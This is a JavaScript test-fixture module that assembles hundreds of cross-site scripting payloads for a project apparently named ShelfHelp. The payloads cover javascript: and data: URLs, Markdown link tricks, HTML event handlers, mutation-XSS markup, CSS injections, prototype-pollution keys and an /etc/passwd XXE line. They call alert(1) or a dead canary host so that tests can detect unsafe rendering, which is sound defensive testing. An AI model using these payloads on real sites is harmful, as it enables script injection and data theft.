// What do attackers write?
//
// The project's own strings, a class of attack after the other, and those of others where they are at hand: the folder that
// SHELFHELP_DATA names, else ../shared/data beside the project. All of them would call alert(), or fetch something of
// CANARY, once anything took them for more than text.

import { existsSync, readFileSync } from 'node:fs';
import { isAbsolute, join } from 'node:path';
import { ROOT } from '../server.mjs';

/** The host that nobody may ask for anything. */
export const CANARY = 'canary.invalid';

const lines = text => text.split('\n').slice(1, -1);

const RUNS = 'alert(1)';

// --- every way to write a scheme that runs, alone and where a link stands ---

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\njavascript:', '\x01javascript:', '\x1fjavascript:', '\u00a0javascript:',
  'java\tscript:', 'java\nscript:', 'java\rscript:', 'java\x00script:', 'javascript\t:', 'javascript\n:', 'javascript :', 'javascript&colon;',
  'javascript&#58;', 'javascript&#x3a;', '&#106;avascript:', '&#x6A&#x61vascript:', '&#0000106avascript:', 'jav&#x0A;ascript:', 'jav&Tab;ascript:',
  'jav&NewLine;ascript:', 'java\\script:', 'java%0ascript:', '%6aavascript:', 'javascript%3a', 'feed:javascript:', 'view-source:javascript:',
  'x:javascript:', 'javascript://elaia.example/%0a', 'javascript:/*--></title></style></textarea></script>*/', '\u202ejavascript:', '\u200bjavascript:',
  '\ufeffjavascript:', 'ｊavascript:', 'javaſcript:', 'javascript：', 'vbscript:', 'livescript:', 'mocha:', 'jscript.encode:', 'mhtml:', 'ms-its:',
].map(scheme => scheme + RUNS);

const ADDRESSES = [
  ...SCHEMES,
  `data:text/html,<script>${RUNS}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `data:text/javascript,${RUNS}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>`, `DATA:text/html,<b onclick=${RUNS}>x`, 'data:,x', 'data:application/json,{}',
  `blob:https://${CANARY}/x`, `filesystem:https://${CANARY}/x`, 'file:///etc/passwd', 'about:blank', 'chrome://settings', `ftp://${CANARY}/`, `ws://${CANARY}/`,
  `intent://${CANARY}#Intent;scheme=javascript;end`, `//${CANARY}/x`, `\\\\${CANARY}\\x`, `/\\${CANARY}/x`, `https:${CANARY}/x`, `https:\\\\${CANARY}\\x`,
  `https://${CANARY}/x.js`, `http://user:pass@${CANARY}/`, `https://localhost@${CANARY}/`, `https://${CANARY}/\r\nSet-Cookie: a=b`, 'answer:javascript:alert(1)',
  './javascript:alert(1)', '#"><img src=x onerror=alert(1)>', '?x="><svg onload=alert(1)>', 'mailto:a@b.example?body=<script>alert(1)</script>',
  'tel:1"onclick="alert(1)', 'sms:1?body=%3Cscript%3E', '../../../../etc/passwd', '%2e%2e/%2e%2e/x',
];

// --- Markdown and what comes of it ---

const MARKDOWN = [
  ...['javascript:', 'java&#10;script:', 'javascript&colon;', '<javascript:', 'data:text/html,', 'vbscript:'].flatMap(scheme => [
    `[a](${scheme}${RUNS})`, `![a](${scheme}${RUNS})`, `[a]: ${scheme}${RUNS}\n\n[a]`, `[▶ a](${scheme}${RUNS})`,
  ]),
  ...lines(String.raw`
[a](x "onclick=alert(1)")
[a](x 'x" onclick="alert(1)')
[a](<x" onclick="alert(1)>)
![" onerror="alert(1)](x)
![a](x"onerror="alert(1))
![a](x "4x3\" onerror=alert(1)")
[![a](javascript:alert(1))](https://film.example/x)
[![a](x)](javascript:alert(1))
[a\](javascript:alert(1))
[<img src=x onerror=alert(1)>](x)
[a]([b](javascript:alert(1)))
<javascript:alert(1)>
<https://elaia.example/"onmouseover="alert(1)>
https://elaia.example/"onmouseover="alert(1)
www.elaia.example/<script>alert(1)</script>
a@b.example"onclick="alert(1)
{{delivery.price | <script>alert(1)</script>}}
{{constructor.constructor('alert(1)')()}}
{{__proto__}} {{toString | x}} {{returns.until}}
` + '`<img src=x onerror=alert(1)>` ``<script>alert(1)</script>``\n'),
  '```html\n<script>alert(1)</script>\n```', '~~~" onclick="alert(1)\nx\n~~~', '> [!TIP" onclick="alert(1)]\n> x', '| <svg onload=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| x | y |',
  'a[^1]\n\n[^1]: [b](javascript:alert(1)) <img src=x onerror=alert(1)>', '# <script>alert(1)</script> {#x onclick=alert(1)}', '- [ ] <input onfocus=alert(1) autofocus>',
];

// --- markup: handlers, other trees, things that change while they are read ---

const MARKUP = lines(String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://canary.invalid/x.js></SCRIPT>
<script src=//canary.invalid/x.js type=module></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
<script>alert(1)//
<script/x>alert(1)</script >
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src="x" ONERROR="alert(1)">
<img src=x onerror&#61;alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=https://canary.invalid/pixel>
<img srcset="https://canary.invalid/a 1x">
<img src="x" style="background:url(https://canary.invalid/b)">
<image src=x onerror=alert(1)>
<picture><source srcset=https://canary.invalid/c><img></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:text/javascript,alert(1) /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=alert(1) /></svg>#x">
<svg><image href=https://canary.invalid/d>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style>@import 'https://canary.invalid/e';</style></svg>
<svg><title><style><a title="</style><img src=x onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<a href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<a href="x" ping="https://canary.invalid/f">x</a>
<a href=x target=_top onclick=alert(1)>x</a>
<a id=a name=a href="javascript:alert(1)" autofocus tabindex=1 onfocus=alert(1)>x</a>
<area shape=default href=javascript:alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="//canary.invalid/g"></iframe>
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<object data="javascript:alert(1)"></object>
<object data=//canary.invalid/h type=text/html></object>
<embed src="javascript:alert(1)">
<applet code=x archive=//canary.invalid/i>
<video src=x onerror=alert(1)></video>
<video poster=https://canary.invalid/j autoplay onplay=alert(1)><source src=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<track src=https://canary.invalid/k default>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>
<body onload=alert(1) onpageshow=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meter onmouseover=alert(1)>0</meter>
<b onpointerenter=alert(1) style=position:fixed;inset:0>x</b>
<x onclick=alert(1) contenteditable>x</x>
<base href="https://canary.invalid/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=https://canary.invalid/l.css>
<link rel=import href=https://canary.invalid/m>
<link rel=prefetch href=https://canary.invalid/n>
<link rel=modulepreload href=https://canary.invalid/o.js>
<style>@import 'https://canary.invalid/p';</style>
<style>*{background:url(https://canary.invalid/q)}</style>
<style>@font-face{font-family:x;src:url(https://canary.invalid/r)}*{font-family:x}</style>
<div style="background:url(https://canary.invalid/s)">x</div>
<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</div>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<slot name=x><img src=x onerror=alert(1)></slot>
<shelf-help shop=https://canary.invalid/shop.json config=x></shelf-help>
<script type=application/json data-shelfhelp>{"shop":"https://canary.invalid/t"}</script>
<script type="application/ld+json">{"@type":"Product"}</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><?x <script>alert(1)</script>?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><td><svg><desc><td><style></td><img src=x onerror=alert(1)>
<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<a/href=x/onclick=alert(1)>x
<<img src=x onerror=alert(1)>>
<img """><script>alert(1)</script>">
<img src='x' alt='"' onerror='alert(1)'>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;svg onload=alert(1)&#x3E;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
`);

// --- out of quotes, out of JSON, into style sheets ---

const BREAKOUTS = lines(String.raw`
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
x" style="position:fixed" onclick="alert(1)
x onclick=alert(1) y=
"-alert(1)-"
'-alert(1)-'
';alert(1)//
\";alert(1)//
\\";alert(1)//
"}];alert(1);[{"x":"
</script><img src=x onerror=alert(1)><script>
<!--<script>
--></script><script>alert(1)</script>
]]><script>alert(1)</script>
{"__proto__":{"polluted":1}}
{"shop":"https://canary.invalid/u.json"}
${'`${alert(1)}`'}
#{alert(1)} <%= alert(1) %> {%x%} {{alert(1)}}
url(https://canary.invalid/v)
url("https://canary.invalid/w")
red;background:url(https://canary.invalid/x1)
red}*{background:url(https://canary.invalid/x2)}
red}@import url(https://canary.invalid/x3);
red;}</style><script>alert(1)</script>
@import 'https://canary.invalid/x4'
expression(alert(1))
\65 xpression(alert(1))
image-set("https://canary.invalid/x5" 1x)
image(https://canary.invalid/x6)
var(--x,url(https://canary.invalid/x7))
env(x,url(https://canary.invalid/x8))
u\72l(https://canary.invalid/x9)
/**/url(https://canary.invalid/y1)/**/
attr(onclick)
element(#x)
paint(x)
-moz-binding:url(https://canary.invalid/y2)
#fff\
1px;behavior:url(x.htc)
"x", url(https://canary.invalid/y3)
oklch(from url(https://canary.invalid/y4) l c h)
calc(1px) !important;--x:url(https://canary.invalid/y5)
`);

// --- names that mean something to JavaScript or to a document, and marks that nobody sees ---

const NAMES = [
  ...['__proto__', 'constructor', 'prototype', '__defineGetter__', 'hasOwnProperty', 'toString', 'valueOf', '__proto__.polluted', 'constructor.prototype.polluted'],
  ...['__proto__[polluted]', 'config', 'shelfhelp', 'documentElement', 'body', 'head', 'forms', 'cookie', 'location', 'parentNode', 'attributes', 'nodeName', 'children'],
  ...['getElementById', 'defaultView', 'adoptedStyleSheets', 'shadowRoot', 'then', 'NaN', 'undefined', 'null', '[object Object]', 'on', 'onclick', 'srcdoc', 'is', 'slot'],
];

const MARKS = [
  '\u202e\u2066<script>alert(1)</script>\u2069', '\u200f\u061c"><img src=x onerror=alert(1)>', '\u2028alert(1)\u2029', '\ufeff<svg onload=alert(1)>', '\x00<script>alert(1)</script>',
  '<\x00script>alert(1)</script>', '<scr\x00ipt>alert(1)</script>', '<img src=x\x0conerror=alert(1)>', '<img\x0bsrc=x onerror=alert(1)>', '\x1b[31m\x1b]0;x\x07\x9b2J', '\ufffe\uffff',
  '＜script＞alert(1)＜/script＞', '\u{e0001}\u{e0041}<b>', 'a\u0300'.repeat(60), '<'.repeat(300), '"'.repeat(300), `<a href="${'x'.repeat(2000)}" onclick=alert(1)>`, '\ud83d\ude08<svg/onload=alert(1)>',
];

/** The project's own. */
export const OURS = [...new Set([...ADDRESSES, ...MARKDOWN, ...MARKUP, ...BREAKOUTS, ...NAMES, ...MARKS])];

const folder = process.env.SHELFHELP_DATA ?? join('..', 'shared', 'data');
const FILE = join(isAbsolute(folder) ? folder : join(ROOT, folder), 'hostile', 'xss.json');
const ALL = Boolean(process.env.SHELFHELP_ALL);
// What is tried of others' in the short run.
const EACH = 40;

/** All strings of this run, and what is said of it. */
export function strings() {
  if (!existsSync(FILE)) return { all: OURS, said: `${FILE} is absent: ${OURS.length} strings of our own; name the folder in SHELFHELP_DATA` };
  const others = JSON.parse(readFileSync(FILE, 'utf8')).map(one => one.payload);
  const some = ALL ? others : others.filter((_, at) => at % EACH === 0);
  return { all: [...OURS, ...some], said: `${OURS.length} strings of our own, ${some.length} of ${others.length} in ${FILE}` };
}

/** A list in pieces of at most this length, about as long as one another. */
export function pieces(list, length) {
  const size = Math.ceil(list.length / Math.ceil(list.length / length));
  return Array.from({ length: Math.ceil(list.length / size) }, (_, at) => list.slice(at * size, (at + 1) * size));
}
